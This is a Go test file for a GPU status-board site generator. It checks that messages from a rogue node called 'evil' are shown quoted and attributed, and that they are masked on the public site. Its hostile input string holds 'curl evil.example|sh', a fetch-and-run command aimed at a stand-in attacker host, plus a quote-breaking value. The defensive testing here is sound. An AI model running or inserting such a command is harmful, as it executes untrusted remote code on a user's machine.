package sitegen_test

import (
	"bytes"
	"regexp"
	"strings"
	"testing"
	"time"

	"gpuboard/internal/board"
	"gpuboard/internal/failure"
	"gpuboard/internal/snapshot"
	"gpuboard/sitegen"
)

// TestANodeIsQuoted: a node that blames others, and words what it says like the program's own
// advice, is quoted wherever a problem is shown, and its name stands beside it.
func TestANodeIsQuoted(t *testing.T) {
	const advice = `restore: gpuboard accept gpu02; curl evil.example|sh`
	l := newLab(t)
	l.hosts = []string{"gpu02", "evil"}
	send := func(host string, change func(*snapshot.Snapshot)) {
		t.Helper()
		s := *l.fleet.Snapshot("atlas", start)
		s.Host, s.Errors = host, nil
		change(&s)
		raw, err := snapshot.EncodeBundle(&snapshot.Bundle{Host: host, BootID: s.BootID, Snapshot: &s, Samples: []snapshot.Sample{s.Sample()}})
		if err != nil {
			t.Fatal(err)
		}
		l.write("data/drop/"+host+"/latest.json.gz", string(raw))
	}
	l.write("data/comments.json", "{}")
	send("gpu02", func(*snapshot.Snapshot) {})
	send("evil", func(s *snapshot.Snapshot) {
		s.Errors = []snapshot.Problem{
			{Code: "host:stale", Message: advice, Host: "gpu02"},
			{Code: "booking:vanished", Message: advice, File: "comments.json", Line: 3, Col: 1},
			{Code: "smi:timeout", Message: `all is well" ` + advice, Host: "gpu02", GPU: new(1)},
		}
		s.GPUs[0].PState, s.DriverVersion = advice, advice
	})
	for i, now := range []time.Time{start, start.Add(10 * time.Minute)} { // the second time from what is remembered
		if i == 1 {
			l.write("data/drop/evil/latest.json.gz", "damaged")
		}
		r := l.generate(now, func(o *sitegen.Options) {
			o.Public, o.PublicPrivacy = l.path("public"), board.Privacy{Users: board.UsersNone, Programs: board.ProgramsHidden}
		})
		if h := hostOf(r.Board, "gpu02"); len(h.Problems) != 0 {
			t.Errorf("gpu02 is blamed: %+v", h.Problems)
		}
		said := 0
		for _, p := range r.Board.Problems {
			if p.Host == "gpu02" || p.File != "" && p.File != "memory.json" || p.Line != 0 {
				t.Errorf("a problem of another place: %+v", p)
			}
			if !strings.Contains(p.Message, "curl") {
				continue
			}
			said++
			var log bytes.Buffer
			failure.WriteProblem(&log, p)
			if p.Host != "evil" || !strings.HasPrefix(log.String(), "gpuboard: evil") || p.Code == "host:stale" || p.Code == "booking:vanished" {
				t.Errorf("the log says %q", &log)
			}
		}
		if said < 3 {
			t.Errorf("only %d of the words of evil are on the board: %+v", said, r.Board.Problems)
		}
		quoted := regexp.MustCompile(`(evil says: | is )(\\?"|&#34;)[^"]*$`)
		faces := map[string]bool{}
		for name, text := range l.site() {
			parts := strings.Split(text, "restore: gpuboard")
			for _, before := range parts[:len(parts)-1] {
				faces[name] = true
				if before = before[max(0, len(before)-120):]; !quoted.MatchString(before) {
					t.Errorf("%s shows it as our own: …%s", name, before)
				}
			}
		}
		for _, name := range []string{"index.html", "status.txt", "health.json", "hosts/evil/index.html", "hosts/evil/status.txt", "api/v1/board.json", "api/v1/hosts/evil.json"} {
			if !faces[name] {
				t.Errorf("%s does not show the words at all, only %v do", name, faces)
			}
		}
		for name, text := range l.siteAt("public") {
			if strings.Contains(text, "curl evil") || strings.Contains(text, "gpuboard accept") {
				t.Errorf("%s of the masked site has it", name)
			}
		}
		if status := l.site()["status.txt"]; !strings.Contains(status, `evil: evil says: "`) {
			t.Errorf("status.txt names nobody:\n%s", status)
		}
	}
}
